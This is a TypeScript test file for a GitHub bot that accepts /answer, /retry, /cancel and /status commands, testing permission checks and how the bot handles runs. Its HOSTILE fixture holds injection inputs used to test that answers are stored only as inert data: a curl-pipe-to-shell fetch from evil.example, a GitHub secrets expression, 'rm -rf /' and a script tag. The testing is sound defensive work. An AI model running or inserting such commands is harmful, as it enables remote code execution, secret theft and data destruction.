import { afterAll, afterEach, describe, expect, it } from "vitest";
import { serializeState } from "../../src/github/state.js";
import {
  BOT,
  type BotWorld,
  botReplies,
  botWorld,
  DIR,
  questionIssues,
  reactionsOn,
  ticket,
} from "./harness.js";

let world: BotWorld | undefined;
afterEach(async () => {
  world?.fake.assertNoViolations();
  await world?.stop();
  world = undefined;
  for (const w of sharedWorlds) (await w).fake.assertNoViolations();
});

/** Worlds shared by tests whose comments change nothing (made on first use, stopped after the file). */
const sharedWorlds: Array<Promise<BotWorld>> = [];
afterAll(async () => {
  for (const w of sharedWorlds.splice(0)) await (await w).stop();
});
function sharedWorld(make: () => Promise<BotWorld>): () => Promise<BotWorld> {
  let made: Promise<BotWorld> | undefined;
  return () => {
    if (!made) {
      made = make();
      sharedWorlds.push(made);
    }
    return made;
  };
}

const GRAPH = {
  plan: ticket({ title: "Plan the migration" }),
  build: ticket({ depends_on: ["plan"] }),
  ship: ticket({ depends_on: ["build"] }),
};

const ROLES = { maint: "maintain", writer: "write", reader: "read", triager: "triage" } as const;

async function suspendedPlan(): Promise<BotWorld> {
  const w = await botWorld(GRAPH, { roles: { ...ROLES } });
  w.script.plan = [
    { outcome: "suspended", question: "Which database should the migration target?" },
    { outcome: "complete", result: "plan: postgres" },
  ];
  await w.start();
  return w;
}

describe("a maintainer's answer on the question issue runs the ticket and its dependents", () => {
  it("a ticket suspends, its question issue opens, a maintainer answers, the ticket and its dependents complete", async () => {
    world = await suspendedPlan();
    const w = world;
    expect(w.state().tickets.plan?.status).toBe("suspended");
    const [issue] = questionIssues(w.repo);
    expect(issue).toBeDefined();
    expect(issue!.state).toBe("open");

    const result = await w.comment(
      issue!.number,
      "/answer Use postgres 16.\nThe replica is read-only.",
      "maint",
    );
    expect(result).toMatchObject({ kind: "handled", ok: true });

    const state = w.state();
    expect(state.tickets.plan?.status).toBe("complete");
    expect(state.tickets.build?.status).toBe("complete");
    expect(state.tickets.ship?.status).toBe("complete");
    expect(state.tickets.plan?.answers).toEqual([
      expect.objectContaining({
        n: 1,
        attempt: 1,
        by: "maint",
        text: "Use postgres 16.\nThe replica is read-only.",
      }),
    ]);
    // The answer is its own immutable file, written in the commit that re-readied the ticket.
    const answerFile = JSON.parse(w.file(`${DIR}/.frontier/answers/plan@1.json`)!);
    expect(answerFile.text).toBe("Use postgres 16.\nThe replica is read-only.");
    expect(w.ran.filter((r) => r.ticket === "plan").map((r) => r.attempt)).toEqual([1, 2]);

    // The question issue is closed, with a reply that links the run.
    const closed = w.repo.issues.get(issue!.number)!;
    expect(closed.state).toBe("closed");
    expect(closed.stateReason).toBe("completed");
    const replies = botReplies(w.repo, issue!.number);
    expect(replies.at(-1)).toMatch(/Recorded the answer to `plan`/);
    expect(replies.at(-1)).toMatch(/\/actions\/runs\/\d+/);
    expect(w.state().questions.plan?.closed).toBe(true);

    const comment = w.repo.commentsOn(issue!.number).find((c) => c.body.startsWith("/answer"))!;
    expect(reactionsOn(w.repo, comment.id)).toEqual(["eyes", "+1"]);
  });
});

/** The run's report lives on a tracking issue (no PR for main): the usual place for commands. */
function reportIssue(w: BotWorld): number {
  const n = w.state().report?.issue_number;
  if (n === undefined) throw new Error("no report comment recorded");
  return n;
}

describe("only people with write access are obeyed; nothing else changes", () => {
  // each refusal changes nothing, so the three share one suspended run
  const refusingWorld = sharedWorld(suspendedPlan);
  it.each(["stranger", "reader", "triager"])(
    "%s's /answer and /cancel are refused and change nothing",
    async (login) => {
      const w = await refusingWorld();
      w.fake.clearRequests();
      const [issue] = questionIssues(w.repo);
      const head = w.repo.head("main");
      const stateBefore = w.file(`${DIR}/.frontier/state.json`);
      const ticketsBefore = ["plan", "build", "ship"].map((id) => w.file(`${DIR}/${id}.md`));
      const runsBefore = w.fake.allRuns().length;

      const answer = await w.comment(issue!.number, "/answer Use sqlite", login);
      const cancel = await w.comment(reportIssue(w), "/cancel", login);

      expect(answer).toMatchObject({ kind: "refused", login });
      expect(cancel).toMatchObject({ kind: "refused", login });
      // Byte-identical: the branch did not move at all.
      expect(w.repo.head("main")).toBe(head);
      expect(w.file(`${DIR}/.frontier/state.json`)).toBe(stateBefore);
      expect(["plan", "build", "ship"].map((id) => w.file(`${DIR}/${id}.md`))).toEqual(
        ticketsBefore,
      );
      expect(w.fake.allRuns().length).toBe(runsBefore);
      expect(w.repo.issues.get(issue!.number)!.state).toBe("open");
      // A polite reply that names who may do this, and 😕.
      const reply = botReplies(w.repo, issue!.number).at(-1)!;
      expect(reply).toContain(
        `@${login}, only people with write access to acme/app can steer this run`,
      );
      expect(reply).toContain("Nothing was changed");
      const comment = w.repo.commentsOn(issue!.number).find((c) => c.user === login)!;
      expect(reactionsOn(w.repo, comment.id)).toEqual(["eyes", "confused"]);
      // Permission comes from the permission endpoint, once per comment.
      expect(w.fake.countRequests({ operation: "repos/get-collaborator-permission-level" })).toBe(
        2,
      );
    },
  );

  it("obeys someone with the write role", async () => {
    world = await suspendedPlan();
    const [issue] = questionIssues(world.repo);
    const result = await world.comment(issue!.number, "/answer plan Use postgres", "writer");
    expect(result).toMatchObject({ kind: "handled", ok: true });
    expect(world.state().tickets.plan?.status).toBe("complete");
  });
});

describe("comments that are not commands for the bot are ignored", () => {
  // an ignored comment changes nothing, so these share one suspended run
  const ignoringWorld = sharedWorld(suspendedPlan);
  async function ignoredWorld() {
    const w = await ignoringWorld();
    const [issue] = questionIssues(w.repo);
    return { w, issue: issue!.number, head: w.repo.head("main"), requests: w.fake.requests.length };
  }

  function expectUntouched(w: BotWorld, issue: number, head: string | undefined) {
    expect(w.repo.head("main")).toBe(head);
    expect(botReplies(w.repo, issue)).toEqual([]);
    for (const c of w.repo.commentsOn(issue)) expect(c.reactions).toEqual([]);
    expect(w.state().tickets.plan?.status).toBe("suspended");
  }

  it("an edited comment", async () => {
    const { w, issue, head, requests } = await ignoredWorld();
    const r = await w.comment(issue, "/answer Use postgres", "maint", { action: "edited" });
    expect(r).toMatchObject({ kind: "ignored" });
    expectUntouched(w, issue, head);
    expect(w.fake.requests.length).toBe(requests);
  });

  it("a quoted command", async () => {
    const { w, issue, head, requests } = await ignoredWorld();
    const r = await w.comment(issue, "> /answer Use postgres\n\nShould we do this?", "maint");
    expect(r).toMatchObject({ kind: "ignored" });
    expectUntouched(w, issue, head);
    expect(w.fake.requests.length).toBe(requests);
  });

  it("a command in a code block", async () => {
    const { w, issue, head } = await ignoredWorld();
    const r = await w.comment(
      issue,
      "Answer like this:\n\n```\n/answer Use postgres\n```\n\n    /cancel\n",
      "maint",
    );
    expect(r).toMatchObject({ kind: "ignored" });
    expectUntouched(w, issue, head);
  });

  it("a bot's comment, even one with admin rights", async () => {
    const { w, issue, head, requests } = await ignoredWorld();
    w.repo.setPermission("github-actions[bot]", "admin");
    const r = await w.comment(issue, "/answer Use postgres", "github-actions[bot]");
    expect(r).toMatchObject({ kind: "ignored" });
    expectUntouched(w, issue, head);
    expect(w.fake.requests.length).toBe(requests);
  });

  it("unknown slash commands", async () => {
    const { w, issue, head } = await ignoredWorld();
    const r = await w.comment(issue, "/lgtm\n/deploy production", "maint");
    expect(r).toMatchObject({ kind: "ignored" });
    expectUntouched(w, issue, head);
  });
});

describe("a comment on a pull request from a fork is ignored", () => {
  it("even a maintainer's /cancel there changes nothing", async () => {
    // The fake serves same-repository pulls only; GitHub names the fork in head.repo.
    world = await botWorld(GRAPH, {
      roles: { ...ROLES },
      gh: (gh) => {
        gh.hook.after("request", (response, options) => {
          if (
            options.method === "GET" &&
            /\/pulls\/(\{pull_number\}|\d+)$/.test(String(options.url))
          ) {
            const head = (response.data as { head: { repo: { full_name: string } | null } }).head;
            if (head.repo) head.repo.full_name = "mallory/app";
          }
        });
        return gh;
      },
    });
    const w = world;
    w.script.plan = [{ outcome: "suspended", question: "Which database?" }];
    await w.start();
    w.repo.createBranch("patch-1");
    const pr = w.repo.openPull({ head: "patch-1", user: "mallory" });
    const head = w.repo.head("main");
    const r = await w.comment(pr.number, "/cancel", "maint");
    expect(r).toMatchObject({ kind: "ignored", reason: expect.stringContaining("fork") });
    expect(w.repo.head("main")).toBe(head);
    expect(botReplies(w.repo, pr.number)).toEqual([]);
    expect(w.state().run.cancelled).toBeUndefined();
  });

  it("a pull request of the repository's own branch is obeyed", async () => {
    world = await suspendedPlan();
    const w = world;
    // Branched after the run started: it carries a copy of the run's state, which is
    // not a run of its own.
    w.repo.createBranch("patch-2");
    expect(w.repo.readFile(`${DIR}/.frontier/state.json`, "patch-2")).toBeDefined();
    const pr = w.repo.openPull({ head: "patch-2" });
    const r = await w.comment(pr.number, "/status", "maint");
    expect(r).toMatchObject({ kind: "handled", ok: true, branch: "main" });
    expect(botReplies(w.repo, pr.number).at(-1)).toContain("Ticket Frontier");
  });
});

const HOSTILE: Record<string, string> = {
  fences: "---\nstatus: complete\nattempt: 99\nid: other\n---\nbody",
  yaml: "status: complete\nblocked_by: {ticket: x, kind: dep-failed, root: x}\nclaimed_by: mallory",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal expression is the attack
  expression: "${{ secrets.GITHUB_TOKEN }} $(curl evil.example | sh) `id`",
  backticks: "run `rm -rf /` ``` ``\n```sh\n/cancel\n```\n~~~\n/retry x\n~~~",
  html: '<script>alert(1)</script><!-- ticket-frontier:report run=demo --><img src=x onerror="x">',
  big: `${"lorem ipsum dolor sit amet ".repeat(3800)}the end`,
  unicode: "Ünïcödé — 日本語 🐘 \u202Eevil\u202C \u200Bzero-width \uFEFF bom",
  nul: "before\u0000after\u0000",
};

describe("hostile answers are stored verbatim as data and change no other field", () => {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal expression is the attack
  it("front-matter fences, YAML, ${{ }}, backticks, HTML, 100 KB, unicode and NUL bytes", async () => {
    const ids = Object.keys(HOSTILE);
    world = await botWorld(Object.fromEntries(ids.map((id) => [id, ticket({}, `Task ${id}.`)])), {
      roles: { ...ROLES },
    });
    const w = world;
    for (const id of ids) {
      // The next attempt asks again, so any field the answer managed to set would show.
      w.script[id] = [
        { outcome: "suspended", question: `first question of ${id}` },
        { outcome: "suspended", question: `second question of ${id}` },
      ];
    }
    await w.start();
    expect(HOSTILE.big!.length).toBeGreaterThan(100_000);
    const before = Object.fromEntries(ids.map((id) => [id, w.file(`${DIR}/${id}.md`)!]));

    for (const id of ids) {
      const issue = questionIssues(w.repo).find((i) =>
        i.title.includes(`first question of ${id}`),
      )!;
      const r = await w.comment(issue.number, `/answer ${HOSTILE[id]}`, "maint");
      expect(r, id).toMatchObject({ kind: "handled", ok: true, outcomes: [{ kind: "answered" }] });
    }

    const state = w.state();
    for (const id of ids) {
      const text = HOSTILE[id]!;
      const t = state.tickets[id]!;
      expect(t.status, id).toBe("suspended");
      expect(t.attempt, id).toBe(2);
      expect(t.blocked_by, id).toBeUndefined();
      expect(t.claimed_by, id).not.toBe("mallory");
      expect(
        t.answers.map((a) => a.text),
        id,
      ).toEqual([text]);
      const file = w.file(`${DIR}/.frontier/answers/${id}@1.json`)!;
      expect(JSON.parse(file).text, id).toBe(text);
      // The ticket file: only engine fields changed, the answer is nowhere in it.
      const ticketText = w.file(`${DIR}/${id}.md`)!;
      expect(ticketText.endsWith(before[id]!.slice(before[id]!.indexOf("\n---\n") + 5)), id).toBe(
        true,
      );
      expect(ticketText, id).not.toContain("mallory");
      expect(ticketText, id).not.toContain("attempt: 99");
      expect(ticketText, id).toMatch(/^status: suspended$/m);
      expect(ticketText, id).toMatch(/^attempt: 2$/m);
    }
    // Nothing the answers said was dispatched as input to a workflow.
    for (const run of w.fake.allRuns()) {
      expect(Object.keys(run.inputs).sort()).toEqual([
        "attempt",
        "base",
        "claim",
        "ref",
        "run",
        "ticket",
        "timeout",
      ]);
      for (const v of Object.values(run.inputs)) expect(v).toMatch(/^[A-Za-z0-9._#@-]*$/);
    }
    expect(state.run.cancelled).toBeUndefined();
  });
});

describe("/retry TICKET makes a new attempt and unblocks its dependents", () => {
  it("/retry after a failure unblocks the dependents, which then run", async () => {
    world = await botWorld(GRAPH, { roles: { ...ROLES } });
    const w = world;
    w.script.build = [
      { outcome: "failed", reason: "flaky network" },
      { outcome: "complete", result: "built" },
    ];
    await w.start();
    expect(w.state().tickets.build?.status).toBe("failed");
    expect(w.state().tickets.ship?.status).toBe("blocked");

    const report = reportIssue(w);
    const r = await w.comment(report, "/retry build", "maint");
    expect(r).toMatchObject({
      kind: "handled",
      ok: true,
      outcomes: [{ kind: "retried", ticket: "build" }],
    });

    const state = w.state();
    expect(state.tickets.build?.status).toBe("complete");
    expect(state.tickets.ship?.status).toBe("complete");
    // The failed attempt stays on record, untouched.
    expect(state.tickets.build?.attempts.map((a) => [a.n, a.outcome, a.reason ?? null])).toEqual([
      [1, "failed", "flaky network"],
      [2, "complete", null],
    ]);
    expect(JSON.parse(w.file(`${DIR}/.frontier/attempts/build@1.json`)!).outcome).toBe("failed");
    const reply = botReplies(w.repo, report).at(-1)!;
    expect(reply).toMatch(/`build` was dispatched for a new attempt \(attempt 2\)/);
    expect(reply).toMatch(/`ship` returns to pending/);
  });

  it("says what to do when the ticket cannot be retried", async () => {
    world = await botWorld(GRAPH, { roles: { ...ROLES } });
    const w = world;
    w.script.build = [{ outcome: "failed", reason: "boom" }];
    await w.start();
    const report = reportIssue(w);
    const head = w.repo.head("main");
    const r = await w.comment(report, "/retry ship\n/retry plan\n/retry biuld\n/retry", "maint");
    expect(r).toMatchObject({ kind: "handled", ok: false });
    const reply = botReplies(w.repo, report).at(-1)!;
    expect(reply).toContain("ship is blocked by root build; retry build");
    expect(reply).toContain(
      "plan is complete; to ask for a change, retry it with feedback for its next attempt",
    );
    expect(reply).toContain("There is no ticket `biuld` in this run. Did you mean `build`?");
    expect(reply).toContain("`/retry` needs the ticket to retry");
    expect(w.repo.head("main")).toBe(head);
    const comment = w.repo.commentsOn(report).find((c) => c.body.startsWith("/retry ship"))!;
    expect(reactionsOn(w.repo, comment.id)).toEqual(["eyes", "confused"]);
  });
});

/** A ticket's context for its live attempt, built from the branch's state as the context step builds it. */
async function contextOf(w: BotWorld, id: string): Promise<string> {
  const { loadDirectory } = await import("../../src/tickets/load.js");
  const { openRun } = await import("../../src/core/event.js");
  const { readContext } = await import("../../src/tickets/context-io.js");
  const loaded = await loadDirectory(`${w.workspace}/${DIR}`);
  if (loaded.kind !== "ok") throw new Error("tickets did not load");
  const state = w.state();
  const frontier = openRun({
    specs: loaded.specs,
    settings: loaded.settings,
    saved: { run: state.run, tickets: state.tickets },
    flags: {},
    now: Date.now(),
  });
  return readContext(`${w.workspace}/${DIR}`, frontier, id);
}

describe("/retry TICKET FEEDBACK: a reviewer's feedback reaches the next attempt", () => {
  it("a complete ticket retried with feedback gets a new attempt whose context carries it; the old attempt is kept and its dependents that ran are named, not re-run", async () => {
    world = await botWorld(GRAPH, { roles: { ...ROLES } });
    const w = world;
    w.script.plan = [
      { outcome: "complete", result: "plan v1" },
      { outcome: "complete", result: "plan v2" },
    ];
    // the context of plan's next attempt, built as the context step builds it, when it is dispatched
    const contexts: string[] = [];
    w.fake.onDispatch(async (run) => {
      if (run.inputs.ticket === "plan" && run.inputs.attempt === "2")
        contexts.push(await contextOf(w, "plan"));
    });
    await w.start();
    expect(w.state().tickets.ship?.status).toBe("complete");
    const report = reportIssue(w);
    const r = await w.comment(
      report,
      "/retry plan keep the public API as it was\n\n- and `status: done` stays text",
      "maint",
    );
    expect(r).toMatchObject({ kind: "handled", ok: true, outcomes: [{ kind: "retried" }] });
    const plan = w.state().tickets.plan!;
    expect(plan.status).toBe("complete");
    expect(plan.attempts.map((a) => [a.n, a.outcome])).toEqual([
      [1, "complete"],
      [2, "complete"],
    ]);
    expect(plan.answers).toEqual([
      expect.objectContaining({
        kind: "feedback",
        attempt: 1,
        by: "maint",
        text: "keep the public API as it was\n\n- and `status: done` stays text",
      }),
    ]);
    expect(contexts).toHaveLength(1);
    expect(contexts[0]).toContain("Review feedback");
    expect(contexts[0]).toContain("keep the public API as it was");
    // the front matter was not touched by the comment's text
    expect(w.file(`${DIR}/plan.md`)).not.toMatch(/^status: done$/m);
    const reply = botReplies(w.repo, report).at(-1)!;
    expect(reply).toMatch(/`plan` was dispatched for a new attempt \(attempt 2\)/);
    expect(reply).toMatch(/feedback is recorded for its next attempt/);
    expect(reply).toMatch(
      /`build` already ran on its earlier result and is not re-run unless retried too/,
    );
    expect(w.ran.filter((x) => x.ticket === "build")).toHaveLength(1);
  });
});

describe("/cancel cancels the run and its live orch-task runs", () => {
  it("cancels live runs through the API, cancels open tickets, and the report says who", async () => {
    world = await botWorld(
      {
        plan: ticket(),
        build: ticket({ depends_on: ["plan"] }),
        docs: ticket({ depends_on: ["plan"] }),
        ship: ticket({ depends_on: ["build", "docs"] }),
      },
      { roles: { ...ROLES } },
    );
    const w = world;
    w.script.build = [{ hold: true }];
    w.script.docs = [{ hold: true }];
    // The held runs never finish on their own, so do not wait for the fake to go idle.
    const started = w.start();
    await waitFor(() => w.ran.length === 3 && w.state().report !== undefined);
    const live = w.fake
      .allRuns()
      .filter((r) => r.inputs.ticket === "build" || r.inputs.ticket === "docs");
    expect(live.map((r) => r.status)).toEqual(["in_progress", "in_progress"]);

    const report = reportIssue(w);
    const r = await w.comment(report, "/cancel", "maint");
    await started;
    expect(r).toMatchObject({ kind: "handled", ok: true });
    for (const run of live) {
      expect(w.fake.run(run.id).status).toBe("completed");
      expect(w.fake.run(run.id).conclusion).toBe("cancelled");
    }
    expect(w.fake.countRequests({ operation: "actions/cancel-workflow-run" })).toBe(2);

    const state = w.state();
    expect(state.run.cancelled?.by).toBe("maint");
    expect(state.tickets.plan?.status).toBe("complete");
    for (const id of ["build", "docs", "ship"])
      expect(state.tickets[id]?.status, id).toBe("cancelled");
    // The cancelled jobs' settle steps came in after the cancel and changed nothing.
    expect(state.tickets.build?.attempts.map((a) => a.outcome)).toEqual(["cancelled"]);

    const sticky = w.repo.comments.get(state.report!.comment_id)!.body;
    expect(sticky).toMatch(/cancelled by maint/);
    const reply = botReplies(w.repo, report).at(-1)!;
    expect(reply).toMatch(/Run cancelled by @maint: 3 open tickets cancelled/);
    expect(reply).toMatch(/run \d+\]\([^)]*\) of `build`: cancelled/);
  });

  it("closes open question issues, and a second /cancel says it was already cancelled", async () => {
    world = await suspendedPlan();
    const w = world;
    const [question] = questionIssues(w.repo);
    const report = reportIssue(w);
    expect(await w.comment(report, "/cancel", "admin-user")).toMatchObject({ kind: "refused" });
    w.repo.setPermission("admin-user", "admin");
    expect(await w.comment(report, "/cancel", "admin-user")).toMatchObject({
      kind: "handled",
      ok: true,
    });
    expect(w.repo.issues.get(question!.number)!.state).toBe("closed");
    expect(w.repo.issues.get(question!.number)!.stateReason).toBe("not_planned");
    const again = await w.comment(report, "/cancel", "maint");
    expect(again).toMatchObject({ kind: "handled", ok: false });
    expect(botReplies(w.repo, report).at(-1)).toContain("already cancelled by admin-user");
  });
});

describe("/cancel looks for a run by its claim token since the claim, by the event's clock", () => {
  it("a claim recorded without its times or run is found from the event's now", async () => {
    // Every timestamp of this world is a day behind the machine's clock.
    const clock = () => Date.now() - 86_400_000;
    world = await botWorld({ plan: ticket() }, { roles: { ...ROLES }, clock });
    const w = world;
    w.script.plan = [{ hold: true }];
    const started = w.start();
    await waitFor(() => w.ran.length === 1 && w.state().report !== undefined);
    // A record that says nothing of when the claim was made or which run took it.
    const state = w.state();
    const plan = state.tickets.plan!;
    delete plan.claimed_at;
    plan.attempts = plan.attempts.map(({ run_url: _, ...a }) => ({ ...a, started_at: "" }));
    const { head, shards } = serializeState(state);
    w.repo.commit("main", {
      [`${DIR}/.frontier/state.json`]: head,
      ...Object.fromEntries([...shards].map(([n, t]) => [`${DIR}/.frontier/state/${n}`, t])),
    });
    // A run left live would keep the fake busy forever: released after a while, to fail.
    const guard = setTimeout(() => w.release(), 15_000);
    const r = await w.comment(reportIssue(w), "/cancel", "maint");
    clearTimeout(guard);
    const run = w.fake.run(w.ran[0]!.runId);
    await started;
    expect(r).toMatchObject({ kind: "handled", ok: true });
    expect(run.conclusion).toBe("cancelled");
  });
});

describe("/status replies with the current summary", () => {
  it("replies with the state, counts and open questions, and changes nothing", async () => {
    world = await suspendedPlan();
    const w = world;
    const report = reportIssue(w);
    const head = w.repo.head("main");
    const r = await w.comment(report, "/status", "maint");
    expect(r).toMatchObject({ kind: "handled", ok: true, outcomes: [{ kind: "status" }] });
    const reply = botReplies(w.repo, report).at(-1)!;
    expect(reply).toContain("Ticket Frontier · demo · **suspended**");
    expect(reply).toContain("Which database should the migration target?");
    expect(reply.length).toBeLessThan(65_536);
    // It is not mistaken for the sticky report: a different marker.
    expect(reply).not.toContain("ticket-frontier:report");
    expect(w.repo.head("main")).toBe(head);
  });
});

describe("answers that cannot be recorded get a helpful reply", () => {
  it("unknown ticket, a ticket that is not suspended, an already answered question", async () => {
    world = await suspendedPlan();
    const w = world;
    const [question] = questionIssues(w.repo);
    const report = reportIssue(w);
    expect(await w.comment(report, "/answer nope yes", "maint")).toMatchObject({ ok: false });
    expect(botReplies(w.repo, report).at(-1)).toContain("There is no ticket `nope` in this run.");
    expect(await w.comment(report, "/answer build yes", "maint")).toMatchObject({ ok: false });
    expect(botReplies(w.repo, report).at(-1)).toContain(
      `\`build\` is pending; it has no open question, so there is nothing to answer. Open questions: \`plan\` (#${question!.number}).`,
    );
    expect(await w.comment(report, "/answer yes", "maint")).toMatchObject({ ok: false });
    expect(botReplies(w.repo, report).at(-1)).toContain(
      "`/answer` outside a question issue needs the ticket and then the answer",
    );

    // Answered from the report issue: the question issue hears about it and is closed.
    expect(await w.comment(report, "/answer plan Use postgres", "maint")).toMatchObject({
      ok: true,
    });
    expect(w.repo.issues.get(question!.number)!.state).toBe("closed");
    expect(botReplies(w.repo, question!.number).at(-1)).toMatch(/\[answered\]\(.*\) by @maint/);

    const late = await w.comment(question!.number, "/answer Use mysql", "writer");
    expect(late).toMatchObject({ ok: false });
    expect(botReplies(w.repo, question!.number).at(-1)).toContain(
      "The question of `plan` attempt 1 was already answered by maint. `plan` is now complete.",
    );
    expect(w.state().tickets.plan?.answers.map((a) => a.text)).toEqual(["Use postgres"]);
  });
});

async function waitFor(check: () => boolean, timeoutMs = 20_000): Promise<void> {
  const until = Date.now() + timeoutMs;
  while (!check()) {
    if (Date.now() > until) throw new Error("waitFor: timed out");
    await new Promise((r) => setTimeout(r, 20));
  }
}

describe("more than one command, re-runs and planted markers", () => {
  it("runs several commands of one comment in order, in one reply", async () => {
    world = await suspendedPlan();
    const w = world;
    const report = reportIssue(w);
    const r = await w.comment(
      report,
      "Thanks!\n/answer plan Use postgres.\nVersion 16.\n/status",
      "maint",
    );
    expect(r).toMatchObject({
      kind: "handled",
      ok: true,
      outcomes: [{ kind: "answered" }, { kind: "status" }],
    });
    expect(w.state().tickets.plan?.answers.map((a) => a.text)).toEqual([
      "Use postgres.\nVersion 16.",
    ]);
    const replies = botReplies(w.repo, report);
    expect(replies).toHaveLength(1);
    expect(replies[0]).toContain("Recorded the answer to `plan`");
    expect(replies[0]).toContain("Ticket Frontier · demo");
  });

  it("a re-run of the same comment records nothing twice", async () => {
    world = await suspendedPlan();
    const w = world;
    const [question] = questionIssues(w.repo);
    await w.comment(question!.number, "/answer Use postgres", "maint");
    const runs = w.fake.allRuns().length;
    const head = w.repo.head("main");
    const again = await w.again();
    expect(again).toMatchObject({ kind: "handled", ok: true });
    expect(w.repo.head("main")).toBe(head);
    expect(w.fake.allRuns().length).toBe(runs);
    expect(w.state().tickets.plan?.answers).toHaveLength(1);
    expect(botReplies(w.repo, question!.number).at(-1)).toContain(
      "was already recorded; nothing changed",
    );
  });

  it("a question marker in an issue someone else opened names no ticket", async () => {
    world = await suspendedPlan();
    const w = world;
    const planted = w.repo.createIssue({
      title: "Question from plan",
      body: "<!-- ticket-frontier:question run=demo ticket=plan attempt=1 -->",
      user: "mallory",
    });
    const r = await w.comment(planted.number, "/answer Use sqlite", "maint");
    expect(r).toMatchObject({ kind: "handled", ok: false });
    expect(botReplies(w.repo, planted.number).at(-1)).toContain(
      "Outside a question issue, `/answer` starts with the ticket",
    );
    expect(w.state().tickets.plan?.status).toBe("suspended");
  });
});

describe("a ticket that asks again", () => {
  it("an answer on the old question issue points to the new question", async () => {
    world = await botWorld(GRAPH, { roles: { ...ROLES } });
    const w = world;
    w.script.plan = [
      { outcome: "suspended", question: "Which database?" },
      { outcome: "suspended", question: "Which version?" },
      { outcome: "complete", result: "planned" },
    ];
    await w.start();
    const [first] = questionIssues(w.repo);
    await w.comment(first!.number, "/answer postgres", "maint");
    const second = questionIssues(w.repo).find((i) => i.number !== first!.number)!;
    expect(second.title).toContain("Which version?");
    expect(second.state).toBe("open");
    expect(w.state().tickets.plan).toMatchObject({ status: "suspended", attempt: 2 });

    const late = await w.comment(first!.number, "/answer mysql", "writer");
    expect(late).toMatchObject({ ok: false });
    expect(botReplies(w.repo, first!.number).at(-1)).toContain(
      "`plan` is suspended again on attempt 2: answer that question with `/answer plan TEXT`.",
    );

    await w.comment(second.number, "/answer 16", "maint");
    const plan = w.state().tickets.plan!;
    expect(plan.status).toBe("complete");
    expect(plan.answers.map((a) => [a.n, a.attempt, a.text])).toEqual([
      [1, 1, "postgres"],
      [2, 2, "16"],
    ]);
    expect(w.file(`${DIR}/.frontier/answers/plan@2.json`)).toContain('"text": "16"');
    expect(w.repo.issues.get(second.number)!.state).toBe("closed");
  });
});

describe("an answer to an older attempt's question points to the new one", () => {
  it("names the new question's issue only when it has one", async () => {
    world = await botWorld(GRAPH, { roles: { ...ROLES } });
    const w = world;
    w.script.plan = [
      { outcome: "failed", reason: "flaky" },
      { outcome: "suspended", question: "Which database?" },
    ];
    await w.start();
    // attempt 2's question issue cannot be opened: its record has no issue number
    w.fake.inject({ operation: "issues/create", status: 422, times: Infinity });
    await w.comment(reportIssue(w), "/retry plan", "maint");
    expect(w.state().tickets.plan).toMatchObject({ status: "suspended", attempt: 2 });
    expect(w.state().questions.plan).toEqual({ attempt: 2 });
    // a question issue the action opened for attempt 1 (of an earlier run of the same name)
    const old = w.repo.createIssue({
      title: "Question from plan",
      body: "<!-- ticket-frontier:question run=demo ticket=plan attempt=1 -->",
      user: BOT,
    });
    expect(await w.comment(old.number, "/answer postgres", "maint")).toMatchObject({ ok: false });
    expect(botReplies(w.repo, old.number).at(-1)).toContain(
      "This issue asked the question of `plan` attempt 1; `plan` is now suspended on attempt 2: answer that question with `/answer plan TEXT`.",
    );
  });
});

describe("a malformed command gets a reply that says how to write it", () => {
  it("answers with the usage, reacts 😕 and reads nothing of the run", async () => {
    world = await suspendedPlan();
    const w = world;
    const report = reportIssue(w);
    const before = w.fake.requests.length;
    const r = await w.comment(report, "/retry\n/cancel now", "maint");
    expect(r).toMatchObject({ kind: "handled", ok: false });
    const reply = botReplies(w.repo, report).at(-1)!;
    expect(reply).toContain("Line 1 (`/retry`): `/retry` needs the ticket to retry");
    expect(reply).toContain(
      "Line 2 (`/cancel`): `/cancel` cancels the whole run and takes no arguments",
    );
    const made = w.fake.requests.slice(before).map((q) => q.operation);
    expect(made).toEqual([
      "reactions/create-for-issue-comment",
      "repos/get-collaborator-permission-level",
      "issues/create-comment",
      "reactions/create-for-issue-comment",
    ]);
    expect(w.state().run.cancelled).toBeUndefined();
  });
});

describe("when GitHub cannot say who someone is, nothing changes", () => {
  it("a permission check that fails is a refusal that says so", async () => {
    world = await suspendedPlan();
    const w = world;
    const [question] = questionIssues(w.repo);
    const head = w.repo.head("main");
    w.fake.inject({
      operation: "repos/get-collaborator-permission-level",
      status: 403,
      message: "Resource not accessible by integration",
    });
    const r = await w.comment(question!.number, "/answer Use postgres", "maint");
    expect(r).toMatchObject({ kind: "refused", login: "maint", role: "unknown" });
    expect(w.repo.head("main")).toBe(head);
    expect(botReplies(w.repo, question!.number).at(-1)).toContain(
      "I could not check your permission",
    );
    expect(w.state().tickets.plan?.status).toBe("suspended");
  });
});
